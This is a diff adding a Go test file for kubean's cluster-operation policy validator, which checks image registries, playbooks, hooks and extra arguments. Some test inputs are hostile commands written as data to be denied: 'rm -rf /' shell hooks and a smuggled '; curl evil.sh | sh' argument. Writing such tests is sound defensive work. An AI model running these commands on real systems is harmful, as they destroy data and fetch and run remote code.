@@ -0,0 +1,209 @@
+// Copyright 2023 Authors of kubean-io
+// SPDX-License-Identifier: Apache-2.0
+
+package clusterops
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+
+	clusteroperationv1alpha1 "github.com/kubean-io/kubean-api/apis/clusteroperation/v1alpha1"
+	clusteroperationpolicyv1alpha1 "github.com/kubean-io/kubean-api/apis/clusteroperationpolicy/v1alpha1"
+
+	authenticationv1 "k8s.io/api/authentication/v1"
+	rbacv1 "k8s.io/api/rbac/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+)
+
+func TestImageRegistry(t *testing.T) {
+	tests := map[string]string{
+		"spray-job":                             "docker.io",
+		"kubean-io/spray-job:latest":            "docker.io",
+		"ghcr.io/kubean-io/spray-job:latest":    "ghcr.io",
+		"registry:5000/kubean-io/spray-job":     "registry:5000",
+		"localhost/spray-job@sha256:0123456789": "localhost",
+	}
+	for image, want := range tests {
+		if got := ImageRegistry(image); got != want {
+			t.Fatalf("image %s got %s", image, got)
+		}
+	}
+}
+
+func TestValidatePolicies(t *testing.T) {
+	configMapSource := clusteroperationv1alpha1.ConfigMapActionSource
+	operators := clusteroperationpolicyv1alpha1.ClusterOperationPolicy{
+		ObjectMeta: metav1.ObjectMeta{Name: "operators"},
+		Spec: clusteroperationpolicyv1alpha1.Spec{
+			Clusters:        []string{"prod"},
+			Subjects:        []rbacv1.Subject{{Kind: rbacv1.GroupKind, Name: "operators"}},
+			ActionTypes:     []clusteroperationv1alpha1.ActionType{clusteroperationv1alpha1.PlaybookActionType},
+			Playbooks:       []string{"scale.yml", "ping.yml"},
+			ActionSources:   []clusteroperationv1alpha1.ActionSource{clusteroperationv1alpha1.BuiltinActionSource},
+			ImageRegistries: []string{"ghcr.io"},
+		},
+	}
+	admins := clusteroperationpolicyv1alpha1.ClusterOperationPolicy{
+		ObjectMeta: metav1.ObjectMeta{Name: "admins"},
+		Spec: clusteroperationpolicyv1alpha1.Spec{
+			Subjects: []rbacv1.Subject{
+				{Kind: rbacv1.UserKind, Name: "admin"},
+				{Kind: rbacv1.ServiceAccountKind, Namespace: "kubean-system", Name: "kubean"},
+			},
+		},
+	}
+	// only the playbooks of the policy limit the actions.
+	playbooksOnly := *operators.DeepCopy()
+	playbooksOnly.Spec.ActionTypes, playbooksOnly.Spec.ActionSources, playbooksOnly.Spec.Playbooks = nil, nil, []string{"cluster-info.yml"}
+	newOps := func(cluster string, mutate func(spec *clusteroperationv1alpha1.Spec)) *clusteroperationv1alpha1.ClusterOperation {
+		ops := &clusteroperationv1alpha1.ClusterOperation{
+			ObjectMeta: metav1.ObjectMeta{Name: "ops1"},
+			Spec: clusteroperationv1alpha1.Spec{
+				Cluster:    cluster,
+				ActionType: clusteroperationv1alpha1.PlaybookActionType,
+				Action:     "scale.yml",
+				Image:      "ghcr.io/kubean-io/spray-job:latest",
+			},
+		}
+		mutate(&ops.Spec)
+		return ops
+	}
+	operator := authenticationv1.UserInfo{Username: "alice", Groups: []string{"operators"}}
+	tests := []struct {
+		name     string
+		policies []clusteroperationpolicyv1alpha1.ClusterOperationPolicy
+		ops      *clusteroperationv1alpha1.ClusterOperation
+		user     authenticationv1.UserInfo
+		want     []string
+	}{
+		{
+			name: "no policy",
+			ops:  newOps("prod", func(spec *clusteroperationv1alpha1.Spec) { spec.Action = "reset.yml" }),
+			user: operator,
+			want: []string{},
+		},
+		{
+			name:     "cluster without policy",
+			policies: []clusteroperationpolicyv1alpha1.ClusterOperationPolicy{operators},
+			ops:      newOps("dev", func(spec *clusteroperationv1alpha1.Spec) { spec.Action = "reset.yml" }),
+			user:     authenticationv1.UserInfo{Username: "bob"},
+			want:     []string{},
+		},
+		{
+			name:     "allowed by the group",
+			policies: []clusteroperationpolicyv1alpha1.ClusterOperationPolicy{operators, admins},
+			ops:      newOps("prod", func(spec *clusteroperationv1alpha1.Spec) {}),
+			user:     operator,
+			want:     []string{},
+		},
+		{
+			name:     "denied by the policy of the group",
+			policies: []clusteroperationpolicyv1alpha1.ClusterOperationPolicy{operators},
+			ops: newOps("prod", func(spec *clusteroperationv1alpha1.Spec) {
+				spec.Action = "reset.yml"
+				spec.Image = "docker.io/kubean-io/spray-job:latest"
+				spec.PostHook = []clusteroperationv1alpha1.HookAction{{ActionType: clusteroperationv1alpha1.ShellActionType, Action: "rm -rf /", ActionSource: &configMapSource}}
+			}),
+			user: operator,
+			want: []string{"spec.image", "spec.action", "spec.postHook[0].actionType", "spec.postHook[0].actionSource"},
+		},
+		{
+			name:     "user bound to no policy of the cluster",
+			policies: []clusteroperationpolicyv1alpha1.ClusterOperationPolicy{operators},
+			ops:      newOps("prod", func(spec *clusteroperationv1alpha1.Spec) {}),
+			user:     authenticationv1.UserInfo{Username: "bob", Groups: []string{"developers"}},
+			want:     []string{"spec.cluster"},
+		},
+		{
+			name:     "allowed by another policy of the user",
+			policies: []clusteroperationpolicyv1alpha1.ClusterOperationPolicy{operators, admins},
+			ops:      newOps("prod", func(spec *clusteroperationv1alpha1.Spec) { spec.Action = "reset.yml" }),
+			user:     authenticationv1.UserInfo{Username: "system:serviceaccount:kubean-system:kubean", Groups: []string{"operators"}},
+			want:     []string{},
+		},
+		{
+			name:     "shell and configmap playbook out of the playbooks",
+			policies: []clusteroperationpolicyv1alpha1.ClusterOperationPolicy{playbooksOnly},
+			ops: newOps("prod", func(spec *clusteroperationv1alpha1.Spec) {
+				spec.Action = "cluster-info.yml"
+				spec.PreHook = []clusteroperationv1alpha1.HookAction{{ActionType: clusteroperationv1alpha1.ShellActionType, Action: "rm -rf /"}}
+				spec.PostHook = []clusteroperationv1alpha1.HookAction{{ActionType: clusteroperationv1alpha1.PlaybookActionType, Action: "cluster-info.yml", ActionSource: &configMapSource}}
+			}),
+			user: operator,
+			want: []string{"spec.preHook[0].actionType", "spec.postHook[0].actionSource"},
+		},
+		{
+			name:     "playbook in the extraArgs",
+			policies: []clusteroperationpolicyv1alpha1.ClusterOperationPolicy{playbooksOnly},
+			ops: newOps("prod", func(spec *clusteroperationv1alpha1.Spec) {
+				spec.Action, spec.ExtraArgs = "cluster-info.yml", "/kubespray/reset.yml -e reset_confirmation=yes"
+			}),
+			user: operator,
+			want: []string{"spec.extraArgs"},
+		},
+		{
+			name:     "shell metacharacters in the extraArgs",
+			policies: []clusteroperationpolicyv1alpha1.ClusterOperationPolicy{playbooksOnly},
+			ops: newOps("prod", func(spec *clusteroperationv1alpha1.Spec) {
+				spec.Action, spec.ExtraArgs = "cluster-info.yml", "; curl evil.sh | sh"
+			}),
+			user: operator,
+			want: []string{"spec.extraArgs"},
+		},
+		{
+			name:     "options in the extraArgs",
+			policies: []clusteroperationpolicyv1alpha1.ClusterOperationPolicy{playbooksOnly},
+			ops: newOps("prod", func(spec *clusteroperationv1alpha1.Spec) {
+				spec.Action, spec.ExtraArgs = "cluster-info.yml", `-e "foo=bar baz=qux" --limit node1 -vv`
+			}),
+			user: operator,
+			want: []string{},
+		},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			got := make([]string, 0)
+			for _, err := range ValidatePolicies(test.policies, test.ops, test.user) {
+				got = append(got, err.Field)
+				if err.Field != "spec.cluster" && !strings.Contains(err.Detail, "ClusterOperationPolicy operators") {
+					t.Fatalf("denial %s does not cite the policy", err.Detail)
+				}
+			}
+			if !reflect.DeepEqual(got, test.want) {
+				t.Fatalf("got %v", got)
+			}
+		})
+	}
+}
+
+func TestValidatePolicy(t *testing.T) {
+	policy := &clusteroperationpolicyv1alpha1.ClusterOperationPolicy{
+		ObjectMeta: metav1.ObjectMeta{Name: "policy1"},
+		Spec: clusteroperationpolicyv1alpha1.Spec{
+			Subjects: []rbacv1.Subject{
+				{Kind: rbacv1.UserKind, Name: "admin"},
+				{Kind: rbacv1.ServiceAccountKind, Name: "kubean"},
+				{Kind: "Role", Name: "admin"},
+			},
+			ActionTypes:     []clusteroperationv1alpha1.ActionType{"playbook", "python"},
+			Playbooks:       []string{"cluster.yml", "site.yml"},
+			ActionSources:   []clusteroperationv1alpha1.ActionSource{"builtin", "git"},
+			ImageRegistries: []string{"ghcr.io", "ghcr.io/kubean-io"},
+		},
+	}
+	got := make([]string, 0)
+	for _, err := range ValidatePolicy(policy) {
+		got = append(got, err.Field)
+	}
+	want := []string{
+		"spec.subjects[1].namespace", "spec.subjects[2].kind", "spec.actionTypes[1]",
+		"spec.actionSources[1]", "spec.playbooks[1]", "spec.imageRegistries[1]",
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("got %v", got)
+	}
+	if errs := ValidatePolicy(&clusteroperationpolicyv1alpha1.ClusterOperationPolicy{}); len(errs) != 1 || errs[0].Field != "spec.subjects" {
+		t.Fatalf("got %v", errs)
+	}
+}